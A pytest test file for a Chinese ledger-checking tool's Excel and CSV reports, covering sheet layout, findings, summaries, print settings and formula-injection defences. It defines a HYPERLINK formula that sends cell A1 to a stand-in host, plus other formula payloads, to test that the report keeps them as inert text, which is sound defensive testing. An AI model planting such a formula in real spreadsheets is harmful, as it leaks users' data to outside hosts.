"""The Excel working paper and the findings CSV, built from a ScanResult made by hand and read
back with openpyxl."""
from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile

import openpyxl
import pandas as pd
import pytest

from voucher_checker.engine import FINDING_COLUMNS, empty_findings, no_findings, run_rules
from voucher_checker.model import DataError, ReadResult, ScanResult, SheetInfo
from voucher_checker.policy import Policy
from voucher_checker.registry import Rule
from voucher_checker.report import FINDING_HEADERS, REVIEW_HEADERS, inert_text, rows_label, write_findings_csv, write_report
from voucher_checker.schema import empty_ledger
from voucher_checker.testing import ledger_from_rows

INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
STARTED = dt.datetime(2024, 5, 6, 9, 30, 15)
FIELDS = frozenset({"date", "voucher", "summary", "account_code", "account_name", "debit", "credit"})


def _line(entity, file, sheet, row, voucher, date, summary, account, debit, credit, book="admin"):
    return {"entity": entity, "book": book, "file": file, "sheet": sheet, "row": row, "voucher": voucher,
            "date": date, "summary": summary, "account": account, "debit": debit, "credit": credit}


ADMIN_FILE = "建设社区/行政账2021.xlsx"
LEDGER_ROWS = [
    # 建设社区 行政账, 3月: 记-6 is over the petty-cash limit, 记-7 is clean, 记-9 has injected text
    _line("建设社区", ADMIN_FILE, "3月", 9, "记-6", "2021-03-06", "提取备用金", "1001 库存现金", "2500.50", ""),
    _line("建设社区", ADMIN_FILE, "3月", 10, "记-6", "2021-03-06", "提取备用金", "1002 银行存款", "", "2500.50"),
    _line("建设社区", ADMIN_FILE, "3月", 11, "记-7", "2021-03-08", "购办公用品", "5201 办公费", "300", ""),
    _line("建设社区", ADMIN_FILE, "3月", 12, "记-7", "2021-03-08", "购办公用品", "1001 库存现金", "", "300"),
    _line("建设社区", ADMIN_FILE, "3月", 13, "记-9", "2021-03-20", INJECTION, "1001 库存现金", "3000", ""),
    _line("建设社区", ADMIN_FILE, "3月", 14, "记-9", "2021-03-20", "@SUM(1+1)\x07", "1002 银行存款", "", "3000"),
    # 幸福村 行政账: one small finding, so it ranks after 建设社区
    _line("幸福村", "幸福村/村账.xlsx", "2021", 5, "记-1", "2021-01-04", "现金报销", "1001 库存现金", "2100", ""),
    _line("幸福村", "幸福村/村账.xlsx", "2021", 6, "记-1", "2021-01-04", "现金报销", "1002 银行存款", "", "2100"),
    # 幸福村 工会账 without amounts in its header: the rule cannot run there
    _line("幸福村", "幸福村/工会账.xlsx", "Sheet1", 4, "记-1", "2021-02-01", "慰问", "5301 工会经费", "", "",
          book="union"),
]


def _check_cash(ledger: pd.DataFrame, options: dict) -> pd.DataFrame:
    limit = int(options["limit_yuan"] * 100)
    hit = ledger[(ledger["account_class"] == "cash") & (ledger["debit_fen"] > limit)]
    if hit.empty:
        return no_findings()
    return pd.DataFrame({"voucher_key": hit["voucher_key"], "line_id": hit["line_id"],
                         "amount_fen": hit["debit_fen"],
                         "message": [f"提取现金 {d / 100:,.2f} 元，超过限额" for d in hit["debit_fen"]]})


def _check_summary(ledger: pd.DataFrame, options: dict) -> pd.DataFrame:
    hit = ledger[ledger["summary"].str.startswith(tuple(options["words"]))]
    if hit.empty:
        return no_findings()
    return pd.DataFrame({"voucher_key": hit["voucher_key"], "line_id": hit["line_id"],
                         "amount_fen": hit["debit_fen"] + hit["credit_fen"],
                         "message": "摘要以公式字符开头", "severity": "low"})


def _rules() -> list[Rule]:
    cash = Rule(id="petty-cash-over-limit", title="超限额提取备用金", title_en="Petty cash over the limit",
                severity="high", basis="《现金管理暂行条例》第五条", requires=("debit", "account"),
                defaults={"limit_yuan": 2000}, options_help={"limit_yuan": "备用金限额（元）"},
                check=_check_cash, options={"limit_yuan": 2000})
    odd = Rule(id="odd-summary", title="摘要异常", title_en="Odd summary", severity="medium",
               basis="《会计基础工作规范》第四十七条", requires=("summary",), defaults={"words": ["=", "@"]},
               options_help={"words": "摘要开头的可疑字符"}, check=_check_summary,
               options={"words": ["=", "@"]})
    unused = Rule(id="unused-rule", title="未启用规则", title_en="Disabled", severity="low", basis="无",
                  requires=(), defaults={}, options_help={}, check=lambda l, o: no_findings(), enabled=False)
    return [cash, odd, unused]


def _sheets() -> list[SheetInfo]:
    return [
        SheetInfo(ADMIN_FILE, "3月", "建设社区", "admin", header_rows=(3, 4), fields=FIELDS, lines=6,
                  skipped={"合计行": 2, "空行": 1}, data_rows=9, periods=["2021-03"]),
        SheetInfo("幸福村/村账.xlsx", "2021", "幸福村", "admin", header_rows=(2,), fields=FIELDS, lines=2,
                  skipped={"合计行": 1}, data_rows=5, periods=["2021-01", "2021-04"]),   # 2 rows lost
        SheetInfo("幸福村/工会账.xlsx", "Sheet1", "幸福村", "union", header_rows=(1,),
                  fields=frozenset({"date", "voucher", "summary", "account_name"}), lines=1, data_rows=1,
                  periods=["2021-02"]),
    ]


def _scan(**overrides) -> ScanResult:
    ledger = ledger_from_rows(LEDGER_ROWS)
    sheets, rules = _sheets(), _rules()
    findings, gaps = run_rules(ledger, sheets, rules, Policy())
    dropped = pd.DataFrame({"file": [ADMIN_FILE] * 3, "sheet": ["3月"] * 3, "row": [15, 16, 17],
                            "reason": ["合计行", "合计行", "空行"], "text": ["=1+1", "本月合计", ""]})
    errors = [DataError(ADMIN_FILE, "3月", 18, "F（借方金额）", "金额“abc”无法识别，该行未参与检查。"),
              DataError("幸福村/村账.xlsx", "", None, "", "工作表“草稿”为隐藏表，未读取。", kind="warning")]
    values = dict(read=ReadResult(ledger, sheets, errors, dropped), findings=findings, rule_gaps=gaps,
                  rules=rules, inputs=["/data/ledgers"], policy_path=None, started_at=STARTED,
                  finished_at=STARTED + dt.timedelta(seconds=3), version="0.1.0")
    values.update(overrides)
    return ScanResult(**values)


@pytest.fixture(scope="module")
def scan() -> ScanResult:
    return _scan()


@pytest.fixture(scope="module")
def report(scan, tmp_path_factory):
    path = tmp_path_factory.mktemp("report") / "报告.xlsx"
    write_report(scan, path)
    return path


@pytest.fixture(scope="module")
def wb(report):
    return openpyxl.load_workbook(report)


def _header(ws, row=1) -> list:
    return [c.value for c in ws[row] if c.value is not None]


def _column(ws, header: str, row=1) -> int:
    return _header(ws, row).index(header) + 1


def _find_row(ws, text: str, column: int = 1) -> int:
    for row in ws.iter_rows(min_col=column, max_col=column):
        if row[0].value == text:
            return row[0].row
    raise AssertionError(f"{text!r} not found in {ws.title}")


# ---------------------------------------------------------------------------- structure

def test_sheets_in_order(wb):
    assert wb.sheetnames == ["汇总", "问题清单", "凭证明细", "数据问题", "规则说明"]


def test_findings_sheet_has_one_row_per_finding(wb, scan):
    ws = wb["问题清单"]
    header = _header(ws)
    assert header[:3] == ["序号", "单位", "账套"]
    assert header[header.index("核实结论"):header.index("核实结论") + 4] == list(REVIEW_HEADERS)
    assert set(FINDING_HEADERS) - set(header) == {"问题说明", "依据"}    # printed together as one column
    assert "问题说明及依据" in header and header[-4:] == ["凭证风险分", "期间", "来源", "识别码"]
    assert ws.max_row == len(scan.findings) + 1
    assert [ws.cell(row=r, column=1).value for r in range(2, ws.max_row + 1)] == list(range(1, len(scan.findings) + 1))
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:S{len(scan.findings) + 1}"
    # Each finding's voucher score, a number to sort by, as the JSON gives it.
    scores = [ws.cell(row=r, column=header.index("凭证风险分") + 1).value for r in range(2, ws.max_row + 1)]
    assert scores == scan.finding_scores and all(isinstance(v, (int, float)) and v > 0 for v in scores)


def test_findings_values_and_source(wb, scan):
    ws = wb["问题清单"]
    row = next(r for r in range(2, ws.max_row + 1) if ws.cell(row=r, column=_column(ws, "凭证号")).value == "记-6")
    get = lambda h: ws.cell(row=row, column=_column(ws, h))
    assert get("单位").value == "建设社区"
    assert get("账套").value == "行政账"
    assert get("期间").value == "2021-03"
    assert get("规则").value == "超限额提取备用金"
    assert get("风险等级").value == "高"
    assert get("风险等级").fill.fgColor.rgb.endswith("FF8B8B")
    assert get("问题说明及依据").value == "提取现金 2,500.50 元，超过限额\n依据：《现金管理暂行条例》第五条"
    assert get("问题说明及依据").alignment.wrap_text
    assert get("来源").value == "建设社区/行政账2021.xlsx / 3月 / 第9–10行"
    assert get("金额").value == pytest.approx(2500.50)
    assert get("金额").number_format == "#,##0.00"
    date = get("日期")
    assert isinstance(date.value, dt.datetime) and date.value.date() == dt.date(2021, 3, 6)
    assert date.number_format == "yyyy-mm-dd"
    assert date.is_date



def _grid_rules(ws) -> list[tuple[str, list, object]]:
    return [(str(cf.sqref), rule.formula, rule.dxf.border) for cf in ws.conditional_formatting for rule in cf.rules]


@pytest.mark.parametrize("title, key", [("问题清单", "$A2"), ("凭证明细", "$C2")])
def test_rows_are_ruled_including_the_empty_reviewer_cells(wb, title, key):
    """The grid is one conditional format (a row with a number or a line is boxed), so empty cells,
    the reviewer's among them, are boxed to write in without being written one by one."""
    ws = wb[title]
    ((cells, formula, border),) = _grid_rules(ws)
    assert cells == f"A2:{openpyxl.utils.get_column_letter(ws.max_column)}{ws.max_row}"
    assert formula == [f'{key}<>""']
    assert border.left.style == border.bottom.style == "thin"


def test_review_column_has_drop_down(wb, scan):
    ws = wb["问题清单"]
    column = openpyxl.utils.get_column_letter(_column(ws, "核实结论"))
    validations = ws.data_validations.dataValidation
    assert len(validations) == 1
    dv = validations[0]
    assert dv.type == "list"
    assert dv.formula1 == '"属实,不属实,已整改,待核实"'
    assert str(dv.sqref) == f"{column}2:{column}{len(scan.findings) + 1}"


@pytest.mark.parametrize("title", ["汇总", "问题清单", "凭证明细", "数据问题", "规则说明"])
def test_print_settings(wb, title):
    ws = wb[title]
    assert ws.page_setup.orientation == "landscape"
    assert int(ws.page_setup.paperSize) == 9
    assert int(ws.page_setup.fitToWidth or 1) == 1
    assert int(ws.page_setup.fitToHeight) == 0
    assert ws.sheet_properties.pageSetUpPr.fitToPage is True
    assert "第 &P 页 共 &N 页" in ws.oddFooter.center.text
    assert ws.oddFooter.left.text == "多个单位"
    assert "凭证检查报告" in ws.oddHeader.center.text
    if title != "汇总":
        assert ws.print_title_rows == "$1:$1"


def test_footer_names_the_one_community(tmp_path):
    ledger = ledger_from_rows(LEDGER_ROWS[:6])
    scan = _scan(read=ReadResult(ledger, _sheets()[:1], [], pd.DataFrame()),
                 findings=run_rules(ledger, _sheets()[:1], _rules(), Policy())[0], rule_gaps=[])
    write_report(scan, tmp_path / "r.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "r.xlsx")["问题清单"]
    assert ws.oddFooter.left.text == "建设社区"


def _is_heading(value) -> bool:
    return isinstance(value, str) and "来源：" in value


def test_voucher_link_points_at_first_line_of_voucher(wb, scan):
    ws, detail = wb["问题清单"], wb["凭证明细"]
    voucher_col = _column(ws, "凭证号")
    detail_voucher, detail_row = _column(detail, "凭证号"), _column(detail, "行号")
    checked = 0
    for r in range(2, ws.max_row + 1):
        cell = ws.cell(row=r, column=voucher_col)
        assert cell.hyperlink is not None, f"row {r} has no link"
        assert cell.font.u == "single"
        sheet, _, target = cell.hyperlink.location.rpartition("!")
        assert sheet == "'凭证明细'"
        target_row = int(target.lstrip("A"))
        assert detail.cell(row=target_row, column=detail_voucher).value == cell.value
        source = ws.cell(row=r, column=_column(ws, "来源")).value
        first_source_row = int(source.split("第")[1].split("–")[0].rstrip("行"))
        assert detail.cell(row=target_row, column=detail_row).value == first_source_row
        above = detail.cell(row=target_row - 1, column=1).value
        assert above is None or above == "凭证号" or _is_heading(above), "the link lands on the voucher's first line"
        checked += 1
    assert checked == len(scan.findings)


def test_detail_has_every_line_of_flagged_vouchers_grouped(wb, scan):
    detail = wb["凭证明细"]
    assert _header(detail) == ["凭证号", "日期", "行号", "摘要", "科目", "借方金额", "贷方金额", "往来单位", "制单人",
                               "审核人", "附件数", "问题"]
    rows = list(detail.iter_rows(min_row=2, values_only=True))
    lines = [r for r in rows if isinstance(r[2], int)]
    headings = [r[0] for r in rows if _is_heading(r[0])]
    flagged = scan.ledger[scan.ledger["voucher_key"].isin(scan.findings["voucher_key"])]
    assert len(lines) == len(flagged) == 6          # 记-6, 记-9 of 建设社区 and 记-1 of 幸福村, two lines each
    # a heading per community, book, period and sheet; a blank row between the vouchers under one heading
    assert headings == ["幸福村　行政账　2021-01　　来源：幸福村/村账.xlsx / 2021",     # in the order of 问题清单
                        "建设社区　行政账　2021-03　　来源：建设社区/行政账2021.xlsx / 3月"]
    assert len(rows) == len(lines) + len(headings) + 2
    by_voucher = {}
    heading = None
    for r in rows:
        if _is_heading(r[0]):
            heading = r[0].split("　")[0]
        elif isinstance(r[2], int):
            by_voucher.setdefault((heading, r[0]), []).append(r)
    assert set(by_voucher) == {("建设社区", "记-6"), ("建设社区", "记-9"), ("幸福村", "记-1")}
    nine = by_voucher[("建设社区", "记-9")]
    assert nine[0][11] == "超限额提取备用金；摘要异常" and nine[1][11] is None
    assert [r[2] for r in nine] == [13, 14]
    assert nine[0][4] == "1001 库存现金"
    assert nine[0][5] == pytest.approx(3000) and nine[0][6] is None
    # the voucher's own fields on its first line only, as on the printed voucher; its number on each line
    assert nine[0][1] is not None and nine[1][1] is None
    assert [r[0] for r in nine] == ["记-9", "记-9"]
    first_line = next(r for r in range(2, detail.max_row + 1) if isinstance(detail.cell(row=r, column=3).value, int))
    assert detail.cell(row=first_line, column=6).number_format == "#,##0.00"
    assert detail.cell(row=first_line, column=2).is_date
    assert detail.cell(row=first_line, column=1).font.b, "a flagged line is bold"


# ---------------------------------------------------------------------------- inert text

def test_formula_injection_stays_text(report, wb):
    for title, column in (("问题清单", "摘要"), ("凭证明细", "摘要")):
        ws = wb[title]
        col = _column(ws, column)
        cells = [ws.cell(row=r, column=col) for r in range(2, ws.max_row + 1)]
        hit = [c for c in cells if c.value == INJECTION]
        assert hit, title
        assert all(c.data_type == "s" for c in hit)
        assert all(c.quotePrefix for c in hit)
    col = _column(wb["凭证明细"], "摘要")
    assert "@SUM(1+1)" in [c.value for c in wb["凭证明细"][openpyxl.utils.get_column_letter(col)]]  # \x07 removed
    with zipfile.ZipFile(report) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert "<f>" not in archive.read(name).decode("utf-8"), name


@pytest.mark.parametrize("value, xlsx, csv_text", [
    ("=1+1", "=1+1", "'=1+1"),
    ("+86 138", "+86 138", "'+86 138"),
    ("-5", "-5", "'-5"),
    ("@SUM(A1)", "@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "\tx", "'\tx"),
    ("\r=1", "\n=1", "'\n=1"),
    ("  =1", "  =1", "'  =1"),
    ("a\x00b\x1fc\x0b", "abc", "abc"),
    ("\x07=1", "=1", "'=1"),
    ("\u3000=1", "\u3000=1", "'\u3000=1"),
    ("第一行\r\n第二行", "第一行\n第二行", "第一行\n第二行"),
    ("提取备用金", "提取备用金", "提取备用金"),
    (None, "", ""),
    (float("nan"), "", ""),
    (pd.NA, "", ""),
    (12, "12", "12"),
])
def test_inert_text(value, xlsx, csv_text):
    assert inert_text(value) == xlsx
    assert inert_text(value, for_csv=True) == csv_text


def test_rows_label():
    assert rows_label([10, 9]) == "9–10"
    assert rows_label([9, 10, 12, 14, 15, 16]) == "9–10、12、14–16"
    assert rows_label([7]) == "7"
    assert rows_label([]) == ""


# ---------------------------------------------------------------------------- summary

def _section_row(ws, title: str) -> int:
    return next(r for r in range(1, ws.max_row + 1)
                if re.fullmatch(r"[一二三四五六七八九十]+、" + re.escape(title) + r"(（.*）)?",
                                str(ws.cell(row=r, column=1).value or "")))


def _summary_table(ws, title: str) -> tuple[list, list[list]]:
    title_row = _section_row(ws, title)
    header = _header(ws, title_row + 1)
    rows = []
    for r in range(title_row + 2, ws.max_row + 1):
        values = [ws.cell(row=r, column=c).value for c in range(1, len(header) + 1)]
        if all(v is None for v in values):
            break
        rows.append(values)
    return header, rows


def test_summary_sections_are_numbered_without_gaps(wb):
    ws = wb["汇总"]
    numerals = [str(c.value).split("、")[0] for c in ws["A"]
                if isinstance(c.value, str) and re.match(r"[一二三四五六七八九十]+、", c.value)]
    assert numerals == list("一二三四五六七八")


def test_summary_run_facts(wb):
    ws = wb["汇总"]
    facts = {ws.cell(row=r, column=1).value: ws.cell(row=r, column=2) for r in range(3, 30)}
    assert facts["生成时间"].value == "2024-05-06 09:30:15"
    assert facts["版本"].value == "0.1.0"
    assert facts["输入"].value == "/data/ledgers"
    assert facts["文件数"].value == 3
    assert facts["工作表数"].value == 3
    assert facts["分录行数"].value == 9
    assert facts["剔除行数"].value == 4
    assert facts["数据问题"].value.startswith("错误 1 条，提示 1 条")
    assert facts["策略文件"].value == "默认"
    assert facts["检查期间"].value == "全部期间"
    assert facts["问题数"].value == 4
    assert facts["问题数"].number_format == "#,##0" and facts["分录行数"].number_format == "#,##0"
    assert facts["涉及金额（元）"].number_format == "#,##0.00"


def test_summary_ranks_communities_with_their_books_beneath(wb):
    header, rows = _summary_table(wb["汇总"], "各单位问题概况")
    assert header[:3] == ["排序", "单位 / 账套", "会计期间"]
    assert [(r[0], r[1]) for r in rows] == [(1, "建设社区"), (None, "　　行政账"),
                                            (2, "幸福村"), (None, "　　行政账"), (None, "　　工会账")]
    first = dict(zip(header, rows[0]))
    assert (first["高"], first["中"], first["低"], first["问题数"]) == (2, 0, 1, 3)
    # 记-9 line 13 is flagged by two rules; its 3,000.00 counts once
    assert first["涉及金额（元）"] == pytest.approx(2500.50 + 3000)
    village = dict(zip(header, rows[2]))
    assert (village["分录行数"], village["问题数"]) == (3, 1)          # totals over both of its books
    assert dict(zip(header, rows[3]))["会计期间"] == "2021-01 至 2021-04（2 个月，缺 2021-02、2021-03）"
    ws = wb["汇总"]
    title_row = _section_row(ws, "各单位问题概况")
    amount = ws.cell(row=title_row + 2, column=header.index("涉及金额（元）") + 1)
    assert amount.number_format == "#,##0.00" and amount.font.b
    assert ws.cell(row=title_row + 2, column=header.index("分录行数") + 1).number_format == "#,##0"


def test_communities_are_ordered_by_most_serious_finding_then_count_then_amount():
    from voucher_checker.report.summary import GroupFigures
    from collections import Counter

    def figures(name, counts, amount):
        return GroupFigures(name, "", counts=Counter(counts), findings=sum(counts.values()), amount_fen=amount)
    ranked = sorted([figures("甲", {"low": 9}, 10**9), figures("乙", {"high": 1}, 1),
                     figures("丙", {"high": 1, "low": 2}, 5), figures("丁", {"high": 1, "low": 2}, 50),
                     figures("戊", {}, 0)], key=GroupFigures.rank_key)
    assert [g.entity for g in ranked] == ["丁", "丙", "乙", "甲", "戊"]


def test_summary_rule_totals_and_charts(report, wb):
    header, rows = _summary_table(wb["汇总"], "按规则统计")
    assert header == ["规则编号", "规则", "风险等级", "问题数", "金额（元）"]
    assert rows[0][:4] == ["petty-cash-over-limit", "超限额提取备用金", "高", 3]
    assert rows[0][4] == pytest.approx(2500.50 + 3000 + 2100)
    assert [r[0] for r in rows] == ["petty-cash-over-limit", "odd-summary"]   # the disabled rule is left out
    with zipfile.ZipFile(report) as archive:
        charts = [n for n in archive.namelist() if n.startswith("xl/charts/chart")]
        sheet = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert len(charts) == 2                     # by rule, and by community since there are two
    # each chart starts a page of its own
    assert sheet.count("<brk ") == 2


def test_summary_lists_rules_that_did_not_run(wb, scan):
    assert scan.rule_gaps, "the 工会账 sheet has no amounts, so the cash rule cannot run there"
    header, rows = _summary_table(wb["汇总"], "规则未运行或只部分运行")
    assert header == ["规则编号", "规则", "文件", "工作表", "缺少字段或原因"]
    assert ["petty-cash-over-limit", "超限额提取备用金", "幸福村/工会账.xlsx", "Sheet1", "借方金额"] in rows


def test_completeness_table(wb):
    ws = wb["汇总"]
    header, rows = _summary_table(ws, "工作表完整性核对")
    assert header == ["文件", "工作表", "单位", "账套", "状态", "表头行", "分录行数", "剔除行数", "剔除：合计行",
                      "剔除：空行", "非空数据行", "核对", "说明"]
    by_sheet = {(r[0], r[1]): dict(zip(header, r)) for r in rows}
    admin = by_sheet[(ADMIN_FILE, "3月")]
    assert (admin["表头行"], admin["分录行数"], admin["剔除：合计行"], admin["剔除：空行"], admin["核对"]) == \
        ("3–4", 6, 2, 1, "一致")
    assert by_sheet[("幸福村/村账.xlsx", "2021")]["核对"] == "不一致"
    mismatch_row = next(r for r in range(1, ws.max_row + 1) if ws.cell(row=r, column=12).value == "不一致")
    assert ws.cell(row=mismatch_row, column=12).fill.fgColor.rgb.endswith("FF8B8B")


def test_completeness_puts_a_files_reconciled_sheets_on_one_row(tmp_path):
    months = [SheetInfo("和平村/2021.xlsx", f"{m}月", "和平村", "admin", header_rows=(3,), lines=100,
                        skipped={"合计行": 2}, data_rows=102) for m in range(1, 13)]
    odd = [SheetInfo("和平村/2021.xlsx", "13月", "和平村", "admin", header_rows=(3,), lines=5, data_rows=7),
           SheetInfo("和平村/2021.xlsx", "草稿", "和平村", "admin", status="hidden", note="隐藏的工作表，未读取。")]
    one = [SheetInfo("建设社区/3月.xlsx", "3月", "建设社区", "admin", header_rows=(2,), lines=9, data_rows=9)]
    scan = _scan(read=ReadResult(empty_ledger(), months[:6] + odd + months[6:] + one, [], None),
                 findings=empty_findings(), rule_gaps=[])
    write_report(scan, tmp_path / "r.xlsx")
    header, rows = _summary_table(openpyxl.load_workbook(tmp_path / "r.xlsx")["汇总"], "工作表完整性核对")
    table = [dict(zip(header, r)) for r in rows]
    assert [(r["文件"], r["工作表"], r["核对"]) for r in table] == [
        ("和平村/2021.xlsx", "1月 … 12月（共 12 张）", "一致"),      # the twelve that reconcile
        ("和平村/2021.xlsx", "13月", "不一致"),                       # each other sheet alone
        ("和平村/2021.xlsx", "草稿", "一致"),
        ("建设社区/3月.xlsx", "3月", "一致")]
    assert (table[0]["分录行数"], table[0]["剔除：合计行"], table[0]["非空数据行"], table[0]["表头行"]) == (1200, 24, 1224, "3")
    assert table[2]["状态"] != "已读取" and table[2]["说明"] == "隐藏的工作表，未读取。"


# ---------------------------------------------------------------------------- other sheets

def test_data_problems_lists_errors_one_per_row_and_dropped_rows_per_sheet_and_reason(wb):
    ws = wb["数据问题"]
    assert _header(ws) == ["类别", "文件", "工作表", "行号", "列", "数量", "说明", "原文（示例）"]
    rows = [r for r in ws.iter_rows(min_row=2, values_only=True)]
    assert [r[0] for r in rows] == ["错误", "提示", "剔除行", "剔除行", "规则未运行"]
    assert rows[0][3] == 18 and rows[0][4] == "F（借方金额）"
    assert ws.cell(row=2, column=1).fill.fgColor.rgb.endswith("FF8B8B")
    assert rows[2][1:7] == (ADMIN_FILE, "3月", "15–16", None, 2, "合计行")
    assert rows[3][3:7] == ("17", None, 1, "空行")
    assert rows[2][7] == "=1+1" and ws.cell(row=4, column=8).data_type == "s"


def test_data_problems_keep_other_kinds_of_issue_one_per_row(tmp_path):
    errors = [DataError("a.xlsx", "", None, "", "与 b.xlsx 内容相同，已跳过。", kind="duplicate"),
              DataError("c.xlsx", "", None, "", "不是序时账。", kind="warning"),
              DataError("d.xlsx", "1月", 3, "B", "日期无法识别。")]
    scan = _scan(read=ReadResult(ledger_from_rows(LEDGER_ROWS[2:4]), [], errors, pd.DataFrame()),
                 findings=empty_findings(), rule_gaps=[])
    write_report(scan, tmp_path / "r.xlsx")
    rows = list(openpyxl.load_workbook(tmp_path / "r.xlsx")["数据问题"].iter_rows(min_row=2, values_only=True))
    assert [(r[0], r[1]) for r in rows] == [("错误", "d.xlsx"), ("duplicate", "a.xlsx"), ("提示", "c.xlsx")]


def test_long_lists_of_dropped_rows_span_rows(tmp_path):
    rows = list(range(10, 4010, 2))                 # 2,000 rows, none adjacent: a long list of numbers
    dropped = pd.DataFrame({"file": "a.xlsx", "sheet": "1月", "row": rows, "reason": "空行", "text": ""})
    scan = _scan(read=ReadResult(ledger_from_rows(LEDGER_ROWS[2:4]), [], [], dropped), findings=empty_findings(),
                 rule_gaps=[])
    write_report(scan, tmp_path / "r.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "r.xlsx")["数据问题"]
    pieces = [r for r in ws.iter_rows(min_row=2, values_only=True)]
    assert len(pieces) > 5
    assert pieces[0][5] == 2000
    numbers = [int(n) for piece in pieces for n in piece[3].split("、") if n]
    assert numbers == rows
    assert all(d.height is None or d.height < 409 for d in ws.row_dimensions.values())


def test_data_problems_says_none_when_clean(tmp_path):
    ledger = ledger_from_rows(LEDGER_ROWS[2:4])
    scan = _scan(read=ReadResult(ledger, [], [], pd.DataFrame(columns=["file", "sheet", "row", "reason", "text"])),
                 findings=empty_findings(), rule_gaps=[])
    write_report(scan, tmp_path / "r.xlsx")
    wb = openpyxl.load_workbook(tmp_path / "r.xlsx")
    ws = wb["数据问题"]
    assert ws.max_row == 2 and ws.cell(row=2, column=1).value == "无"
    assert wb["问题清单"].cell(row=2, column=1).value == "未发现问题。"
    assert not wb["问题清单"].data_validations.dataValidation


def test_rules_sheet_one_option_per_row(wb):
    ws = wb["规则说明"]
    assert _header(ws) == ["规则编号 / 选项", "规则 / 本次生效值", "风险等级", "是否启用", "依据 / 选项说明", "所需字段"]
    rows = list(ws.iter_rows(min_row=2, values_only=True))
    by_id = {r[0]: r for r in rows if r[2]}            # a rule's own row has its risk level
    assert by_id["petty-cash-over-limit"][1:5] == ("超限额提取备用金\nPetty cash over the limit", "高", "是",
                                                   "《现金管理暂行条例》第五条")
    # Its options beneath it, one a row, in the same columns: name, value, help.
    petty = next(i for i, r in enumerate(rows) if r[0] == "petty-cash-over-limit")
    assert rows[petty + 1][:2] == ("weight", "50") and rows[petty + 1][4].startswith("风险分权重")
    assert rows[petty + 2] == ("limit_yuan", "2000", None, None, "备用金限额（元）", None)
    odd = next(i for i, r in enumerate(rows) if r[0] == "odd-summary")
    assert rows[odd + 2][:2] == ("words", "=、@")
    unused = next(i for i, r in enumerate(rows) if r[0] == "unused-rule")
    assert by_id["unused-rule"][3] == "否" and rows[unused + 1][0] == "weight"


def test_a_rule_the_policy_runs_for_some_units_only_says_so(tmp_path):
    rules = _rules()
    rules[1].partly = True              # [[overrides]] turn it off (or on) for some units
    write_report(_scan(rules=rules), tmp_path / "r.xlsx")
    wb = openpyxl.load_workbook(tmp_path / "r.xlsx")
    by_id = {r[0]: r for r in wb["规则说明"].iter_rows(min_row=2, values_only=True) if r[0]}
    assert [by_id[i][3] for i in ("petty-cash-over-limit", "odd-summary", "unused-rule")] == ["是", "部分单位", "否"]
    facts = {r[0]: r[1] for r in wb["汇总"].iter_rows(values_only=True) if r[0]}
    assert facts["启用规则"] == "2 / 3（其中 1 条只对部分单位，见“规则说明”）"


def test_rules_sheet_names_the_units_an_override_changes_a_rule_for(tmp_path):
    from voucher_checker.policy import load_policy, prepare_rules
    config = tmp_path / "p.toml"
    config.write_text('[[overrides]]\nentity = "和平村"\nbook = "union"\n[overrides.rules.petty-cash-over-limit]\n'
                      'enabled = false\nlimit_yuan = 5000\n', encoding="utf-8")
    policy = load_policy(config)
    rules = prepare_rules(_rules(), policy)
    write_report(_scan(rules=rules, policy=policy), tmp_path / "r.xlsx")
    rows = list(openpyxl.load_workbook(tmp_path / "r.xlsx")["规则说明"].iter_rows(min_row=2, values_only=True))
    petty = next(i for i, r in enumerate(rows) if r[0] == "petty-cash-over-limit")
    odd = next(i for i, r in enumerate(rows) if r[0] == "odd-summary")
    by_unit = [(i, r) for i, r in enumerate(rows) if r[0] and r[0].startswith("按单位")]
    assert [i for i, _ in by_unit] == [odd - 1], "beneath its rule's options, and only there"
    _, row = by_unit[0]
    assert row[:2] == ("按单位：和平村、工会账", "停用；limit_yuan = 5000")
    assert row[4].startswith("策略文件第 1 项 [[overrides]]")
    assert rows[petty][3] == "部分单位"


def test_a_long_word_list_an_override_sets_spans_rows_too(tmp_path):
    from voucher_checker.policy import load_policy, prepare_rules
    words = [f"关键词{i}" for i in range(600)]
    config = tmp_path / "p.toml"
    config.write_text('[[overrides]]\nentity = "和平村"\n[overrides.rules.odd-summary]\nwords = ['
                      + ", ".join(f'"{w}"' for w in words) + "]\n", encoding="utf-8")
    policy = load_policy(config)
    write_report(_scan(rules=prepare_rules(_rules(), policy), policy=policy), tmp_path / "r.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "r.xlsx")["规则说明"]
    rows = [r for r in ws.iter_rows(min_row=2, values_only=True) if r[0] and r[0].startswith("按单位：和平村")]
    assert len(rows) > 3 and all(r[0] == "按单位：和平村（续）" for r in rows[1:])
    assert "".join(r[1] for r in rows) == "words = " + "、".join(words)
    assert max(d.height for d in ws.row_dimensions.values() if d.height) < 409


def test_a_long_option_list_spans_rows_instead_of_being_cut_off(tmp_path):
    words = [f"关键词{i}" for i in range(1500)]
    rule = Rule(id="many-words", title="词表很长", title_en="Long word list", severity="low", basis="无",
                requires=(), defaults={"words": words}, options_help={"words": "很多词"},
                check=lambda l, o: no_findings(), options={"words": words, "limit": 3})
    scan = _scan(rules=[rule], findings=empty_findings(), rule_gaps=[])
    write_report(scan, tmp_path / "r.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "r.xlsx")["规则说明"]
    rows = list(ws.iter_rows(min_row=2, values_only=True))
    assert rows[0][0] == "many-words"
    assert rows[1][0] == "weight" and rows[2][0] == "words" and rows[-1][0] == "limit"
    pieces = [r[1] for r in rows if r[0] and r[0].startswith("words")]
    assert len(pieces) > 3 and all(r[0] == "words（续）" for r in rows[3:len(pieces) + 2])
    assert "".join(pieces).split("、") == words
    heights = [d.height for d in ws.row_dimensions.values() if d.height]
    assert heights and max(heights) < 409


# ---------------------------------------------------------------------------- on paper

def _column_px(ws, letter: str) -> int:
    return int(ws.column_dimensions[letter].width * 7 + 0.5)    # the file's width includes Excel's padding


PRINTABLE_PX = (29.7 / 2.54 - 2 * 0.25) * 96      # A4 landscape less the side margins, at 96 dpi
CM_PER_PX = 2.54 / 96


def _printed_scale(ws, columns) -> float:
    """The scale Excel chooses to print ``columns`` one page wide (never above 100%)."""
